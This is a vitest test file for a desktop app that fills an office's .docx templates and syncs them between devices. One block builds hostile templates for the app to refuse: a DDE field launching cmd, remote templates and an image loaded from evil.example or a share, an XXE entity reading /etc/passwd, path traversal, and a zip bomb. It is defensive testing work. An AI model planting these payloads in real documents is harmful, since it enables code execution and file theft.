/** An office's own .docx as a template: filled where it asks, kept where it does not, refused where it means no good. */
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import mammoth from 'mammoth'
import { v7 } from 'uuid'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { contentOf, entriesOf } from '../../../../electron/data/reports/archive.ts'
import { fillTemplate } from '../../../../electron/data/reports/docx/template.ts'
import { paperNames } from '../../../../shared/contract/papers.ts'
import { customValueId } from '../../../../shared/domain/custom-fields.ts'
import { standardPlaceholders } from '../../../../shared/papers/placeholders.ts'
import { errorText } from '../../../../shared/text/zh-cn/errors.ts'
import { cleanUp, type Device, openDevice, temporaryFolder } from '../../../support/device.ts'
import { convert, ensureOffice, linesOf } from '../../../support/office.ts'
import { bomb, entries, zipped } from '../../../support/office-files.ts'
import { letterhead, runOf, torn, usualLetterhead, wordParagraph } from '../../../support/word-template.ts'
import { rawZip } from '../../../support/zip.ts'

const folder = temporaryFolder('templates-')
let device: Device
let document: string
let field: string

const put = (name: string, bytes: Buffer): string => {
  const path = join(folder, name)
  writeFileSync(path, bytes)
  return path
}
const add = (path: string, paper: (typeof paperNames)[number] = 'report') =>
  device.call('papers.addTemplate', { path, paper })
const partsOf = (path: string) =>
  new Map(entriesOf(readFileSync(path)).map((entry) => [entry.name, contentOf(entry).toString()]))
const textOf = (xml: string | undefined) =>
  [...(xml ?? '').matchAll(/<w:t[^>]*>([^<]*)</g)].map(([, text]) => text).join('')

beforeAll(async () => {
  device = await openDevice('李四', 'headquarters', { demo: true, now: () => Date.parse('2023-12-05T09:00:00') })
  document = v7()
  field = v7()
  await device.save('documents', document, {
    title: '关于慈善项目的调研报告',
    recipient: '会长办公会',
    issuer: '项目调研组',
    issued: '2023-12-01',
    number: '苏慈〔2023〕8号',
  })
  await device.save('sections', v7(), {
    document,
    heading: '基本情况',
    body: '到三个市看了。{{题目}}和{{{不是占位}}}照原样。',
    order: 'a',
  })
  await device.save('customFields', field, { noun: 'documents', name: '密级', kind: 'text' })
  await device.save('customValues', customValueId(document, field), { field, document, value: '内部' })
}, 60_000)
afterAll(cleanUp)

/** Records of which every paper's every place is known. */
async function allSaid(): Promise<Partial<Record<(typeof paperNames)[number], string>>> {
  const [visit, meeting, measure, unit, chair, guest, away, team] = Array.from({ length: 8 }, () => v7()) as [
    string,
    ...string[],
  ] &
    Record<number, string>
  await device.save('organizations', unit!, { name: '高邮市慈善总会' })
  for (const [id, name] of [
    [chair, '陈国平'],
    [guest, '王小燕'],
    [away, '周明'],
  ] as const)
    await device.save('people', id!, { name, title: '会长' })
  await device.save('teams', team!, { name: '二组', leader: chair!, topics: ['会员工作'], members: [guest!] })
  await device.save('visits', visit, { team: team!, start: '2023-11-21' })
  await device.save('meetings', meeting!, {
    kind: 'office',
    number: 18,
    visit,
    date: '2023-12-20',
    place: '二号会议室',
    chair: chair!,
    attendees: [guest!],
    absent: [away!],
    organizations: [unit!],
  })
  await device.save('measures', measure!, {
    title: '建平台',
    content: '县县通',
    stage: 'proposed',
    owner: unit!,
    department: '项目部',
    person: chair!,
    coOwners: [unit!],
    assigned: '2024-01-02',
    due: '2024-06-30',
  })
  const ofMeeting = { minutes: meeting!, notice: meeting!, attendance: meeting! }
  return { report: document, opinions: document, ...ofMeeting, itinerary: visit, supervision: measure! }
}

describe('a template is filled', () => {
  it('where its places stand, however Word cut them into runs, in headers and tables too', async () => {
    const template = await add(put('省会红头.docx', zipped(usualLetterhead())))
    expect(template.name).toBe('省会红头')
    expect(template.places).toEqual(
      [
        { name: '题目', kind: 'standard' },
        { name: '密级', kind: 'own' },
        { name: '紧急程度', kind: 'unknown' },
        { name: '主送', kind: 'standard' },
        { name: '正文', kind: 'standard' },
        { name: '署名', kind: 'standard' },
        { name: '日期', kind: 'standard' },
        { name: '文号', kind: 'standard' },
      ].sort(
        (a, b) =>
          template.places.findIndex(({ name }) => name === a.name) -
          template.places.findIndex(({ name }) => name === b.name),
      ),
    )
    expect(await device.call('papers.templatePlaces', { id: template.id })).toEqual(template.places)

    const answer = await device.call('papers.export', {
      paper: 'report',
      ids: [document],
      format: 'docx',
      folder,
      template: template.id,
      options: {},
    })
    expect(answer.unknown).toEqual(['紧急程度'])
    const parts = partsOf(answer.path)
    const body = textOf(parts.get('word/document.xml')).replaceAll('\u200b', '')
    for (const said of [
      '关于慈善项目的调研报告',
      '密级：内部',
      '缓急：待补充',
      '会长办公会：',
      '一、基本情况',
      '项目调研组',
      '2023年12月1日',
      // braces somebody wrote are text
      '{{题目}}和{{{不是占位}}}照原样。',
    ])
      expect(body).toContain(said)
    expect(textOf(parts.get('word/header0.xml'))).toBe('江苏省慈善总会　苏慈〔2023〕8号')
    expect((await mammoth.extractRawText({ path: answer.path })).value).toContain('关于慈善项目的调研报告')
  })

  it('and kept everywhere else: odd, even and first headers and footers, page, styles', async () => {
    const path = join(folder, '关于慈善项目的调研报告.docx')
    const parts = partsOf(path)
    expect(parts.get('word/settings.xml')).toContain('<w:evenAndOddHeaders')
    for (const [at, said] of ['单页脚 ', '双页脚 ', '首页脚'].entries())
      expect(textOf(parts.get(`word/footer${at}.xml`))).toBe(said)
    expect(parts.get('word/document.xml')).toMatch(/<w:footerReference w:type="even" r:id="rIdF1"\/>/)
    expect(parts.get('word/document.xml')).toMatch(/<w:titlePg\/>/)
    expect(parts.get('word/document.xml')).toContain('w:top="2098"')
    expect([...parts.keys()].filter((name) => /^word\/(header|footer)\d/.test(name))).toHaveLength(6)
  })

  it('LibreOffice opens it: the first page its own head and foot, the others odd and even', async () => {
    ensureOffice()
    const long = Array.from({ length: 60 }, () =>
      '调研组到市、县、村看了慈善工作站，听了基层同志的意见。'.repeat(3),
    ).join('\n')
    await device.save('sections', v7(), { document, heading: '主要做法', body: long, order: 'b' })
    const template = (await device.call('papers.templates', { paper: 'report' }))[0]!
    const { path } = await device.call('papers.export', {
      paper: 'report',
      ids: [document],
      format: 'docx',
      folder,
      template: template.id,
      options: {},
    })
    const [pdf] = convert([path], 'pdf')
    const pages = linesOf(pdf!).map((lines) => lines.map((line) => line.replaceAll(/[\s\u200b]/g, '')))
    expect(pages.length).toBeGreaterThan(3)
    expect(pages[0]![0]).toBe('首页眉')
    expect(pages[0]!.at(-1)).toBe('首页脚')
    expect(pages[1]![0]).toBe('双页眉')
    expect(pages[1]!.at(-1)).toBe('双页脚2')
    expect(pages[2]![0]).toBe('江苏省慈善总会苏慈〔2023〕8号')
    expect(pages[2]!.at(-1)).toBe('单页脚3')
  }, 300_000)

  it('with whatever people wrote, braces and all, and always ends', async () => {
    const template = zipped(
      letterhead(
        wordParagraph(torn('{{题', '目}}')) + wordParagraph(runOf('{{正文}}')) + wordParagraph(runOf('{{甲}}')),
      ),
    )
    const word = fc.stringMatching(/^[{}题目正文甲善 ]{0,20}$/)
    await fc.assert(
      fc.asyncProperty(word, word, word, async (title, body, own) => {
        const paper = {
          title,
          blocks: [
            { kind: 'title' as const, line: [{ text: title }] },
            { kind: 'paragraph' as const, line: [{ text: body }] },
          ],
        }
        const fields = new Map([['甲', own]])
        const { docx } = await fillTemplate(template, paper, fields, () => null, { boldHeadings: false })
        const xml = entriesOf(docx).find(({ name }) => name === 'word/document.xml')!
        const shown = textOf(contentOf(xml).toString()).replaceAll('\u200b', '')
        expect(shown).toBe(title + body + (own || '待补充'))
      }),
      { numRuns: 60 },
    )
  })

  it('a paper of every kind has the places the list of places promises', async () => {
    const all = await device.call('papers.placeholders', {})
    expect(all.map(({ paper }) => paper)).toEqual([...paperNames])
    const ids = await allSaid()
    for (const paper of paperNames) {
      expect(all.find((one) => one.paper === paper)?.standard).toEqual(standardPlaceholders[paper])
      const body = standardPlaceholders[paper].map((name) => wordParagraph(runOf(`{{${name}}}`))).join('')
      const { id, places } = await add(put(`${paper}.docx`, zipped(letterhead(body))), paper)
      expect(places.every(({ kind }) => kind === 'standard')).toBe(true)
      const record = ids[paper]
      const { unknown, path } = await device.call('papers.export', {
        paper,
        ...(record ? { ids: [record] } : {}),
        ...(paper === 'list' ? { list: { name: 'visits', filter: {} } } : {}),
        format: 'docx',
        folder,
        template: id,
        options: {},
      })
      expect([paper, unknown]).toEqual([paper, []])
      expect(textOf(partsOf(path).get('word/document.xml'))).not.toMatch(/\{\{/)
    }
  }, 120_000)
})

describe('a template that means no good', () => {
  const rels = (type: string, target: string, mode = ' TargetMode="External"') =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`
  const field = (code: string) =>
    wordParagraph(
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${[...code].map((sign) => `<w:r><w:instrText>${sign}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
    )
  const cases: [name: string, code: string, bytes: () => Buffer][] = [
    ['macros', 'template-unfit', () => zipped(usualLetterhead({ 'word/vbaProject.bin': 'VBA' }))],
    [
      'an embedded object',
      'template-unfit',
      () => zipped(usualLetterhead({ 'word/embeddings/oleObject1.bin': 'OLE' })),
    ],
    ['a control', 'template-unfit', () => zipped(usualLetterhead({ 'word/activeX/activeX1.xml': '<a/>' }))],
    [
      'a remote template',
      'template-unfit',
      () =>
        zipped(
          usualLetterhead({ 'word/_rels/settings.xml.rels': rels('attachedTemplate', 'https://evil.example/t.dotm') }),
        ),
    ],
    [
      'a template on a share',
      'template-unfit',
      () =>
        zipped(
          usualLetterhead({ 'word/_rels/settings.xml.rels': rels('attachedTemplate', 'file://///evil/share/t.dotm') }),
        ),
    ],
    [
      'a picture from elsewhere',
      'template-unfit',
      () => zipped(usualLetterhead({ 'word/_rels/header0.xml.rels': rels('image', 'http://evil.example/x.png') })),
    ],
    [
      'a linked object',
      'template-unfit',
      () => zipped(usualLetterhead({ 'word/_rels/footer0.xml.rels': rels('oleObject', 'file:///c:/x.doc') })),
    ],
    ['another document pulled in', 'template-unfit', () => zipped(letterhead(`<w:altChunk xmlns:r="r" r:id="rId1"/>`))],
    ['a DDE field', 'template-unfit', () => zipped(letterhead(field(' DDEAUTO c:\\cmd "/k calc" ')))],
    [
      'a field that includes',
      'template-unfit',
      () => zipped(letterhead(wordParagraph('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil&quot; "/>'))),
    ],
    ['a path out of the folder', 'file-damaged', () => zipped(usualLetterhead({ 'word/../../evil.xml': '<a/>' }))],
    [
      'no document inside',
      'template-unfit',
      () => zipped({ '[Content_Types].xml': '<Types/>', 'word/styles.xml': '<a/>' }),
    ],
    [
      'a document type',
      'file-hostile',
      () =>
        zipped({
          ...usualLetterhead(),
          'word/document.xml': '<!DOCTYPE a [<!ENTITY a "aaaa">]><w:document xmlns:w="w">&a;</w:document>',
        }),
    ],
    [
      'an outside entity',
      'file-hostile',
      () =>
        zipped({
          ...usualLetterhead(),
          'word/header1.xml': '<!DOCTYPE a SYSTEM "file:///etc/passwd"><w:hdr xmlns:w="w"/>',
        }),
    ],
    [
      '10,000 boxes in each other',
      'file-hostile',
      () => zipped(letterhead('<w:sdt>'.repeat(10_000) + '</w:sdt>'.repeat(10_000))),
    ],
    [
      'a bomb',
      'file-hostile',
      () => rawZip([...entries(usualLetterhead()), bomb('word/bomb.xml', '<a/>', 20_000_000)]),
    ],
    [
      'parts of one name twice',
      'file-hostile',
      () => rawZip([...entries(usualLetterhead()), ...entries(usualLetterhead())]),
    ],
    [
      '5,000 parts',
      'file-hostile',
      () =>
        zipped({
          ...usualLetterhead(),
          ...Object.fromEntries(Array.from({ length: 5000 }, (_, at) => [`word/x${at}.xml`, '<a/>'])),
        }),
    ],
    ['600,000 tags', 'file-hostile', () => zipped(letterhead(wordParagraph('<w:r/>'.repeat(600_000))))],
    [
      '5,000 places',
      'file-hostile',
      () => zipped(letterhead(Array.from({ length: 5000 }, (_, at) => wordParagraph(runOf(`{{项${at}}}`))).join(''))),
    ],
    [
      'tags that do not close',
      'file-damaged',
      () => zipped({ ...usualLetterhead(), 'word/document.xml': '<w:document xmlns:w="w"><w:body>' }),
    ],
    ['half a file', 'file-damaged', () => zipped(usualLetterhead()).subarray(0, 900)],
    [
      'an old .doc under another name',
      'file-encrypted',
      () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2000)]),
    ],
    ['a PDF', 'template-foreign', () => Buffer.from('%PDF-1.7\n')],
    [
      'a spreadsheet',
      'template-foreign',
      () => zipped({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>' }),
    ],
    ['nothing', 'file-damaged', () => Buffer.alloc(0)],
  ]

  it.each(cases)('%s: refused in plain words, nothing kept', async (name, code, bytes) => {
    const path = put('来历不明.docx', bytes())
    const kept = () => readdirSync(join(device.dir, 'attachments'), { recursive: true }).length
    const before = {
      kept: kept(),
      templates: (await device.call('papers.templates', {})).length,
      digest: await device.digest(),
    }
    const failure = await device.failure('papers.addTemplate', { path, paper: 'report' })
    expect([name, failure?.code]).toEqual([name, code])
    expect(failure!.message).toContain('来历不明.docx')
    expect(failure!.next).toBe(errorText[code as keyof typeof errorText].next)
    expect({
      kept: kept(),
      templates: (await device.call('papers.templates', {})).length,
      digest: await device.digest(),
    }).toEqual(before)
  })

  it('one that is not there is refused too', async () => {
    const failure = await device.failure('papers.addTemplate', { path: join(folder, '没有.docx'), paper: 'report' })
    expect(failure?.code).toBe('file-unreadable')
  })

  it('what Word writes besides is no harm: printer settings, data of forms, a thumbnail, links one clicks', async () => {
    const { places } = await add(
      put(
        '常见.docx',
        zipped(
          usualLetterhead({
            'word/printerSettings/printerSettings1.bin': 'printer',
            'customXml/item1.xml': '<a/>',
            'docProps/thumbnail.emf': 'emf',
            'word/_rels/footer0.xml.rels': rels('hyperlink', 'https://www.example.org/'),
          }),
        ),
      ),
    )
    expect(places).toHaveLength(8)
  })
})

describe('a template travels', () => {
  it('with a package, its file too; renamed and removed it does so on both sides', async () => {
    const other = await openDevice('张三', 'laptop', { now: () => Date.parse('2023-12-05T10:00:00') })
    const { id, name } = await add(put('市会用.docx', zipped(usualLetterhead())))
    const peer = (await device.call('peers.list', {})).find((one) => one.name === '张三')!
    const carry = async () => {
      const { files } = await device.call('packages.export', { peer: peer.id, scope: 'new', folder })
      const [preview] = await other.call('packages.inspect', { paths: files.map(({ path }) => path) })
      await other.call('packages.import', { staged: [preview!.staged!], allowDeletes: true })
    }
    await carry()
    const there = (await other.call('papers.templates', { paper: 'report' })).find((one) => one.id === id)
    expect(there).toMatchObject({ id, name, here: true })
    expect((await other.call('papers.templatePlaces', { id })).map(({ name }) => name)).toContain('题目')
    await device.save('templates', id, { name: '各市通用' })
    await carry()
    expect((await other.call('papers.templates', {})).find((one) => one.id === id)?.name).toBe('各市通用')
    await device.call('records.remove', { entity: 'templates', ids: [id] })
    expect((await device.call('papers.templates', {})).some((one) => one.id === id)).toBe(false)
    await device.call('records.restore', { entity: 'templates', ids: [id] })
    expect((await device.call('papers.templates', {})).find((one) => one.id === id)?.here).toBe(true)
    expect(existsSync(join(folder, '市会用.docx'))).toBe(true)
  })
})
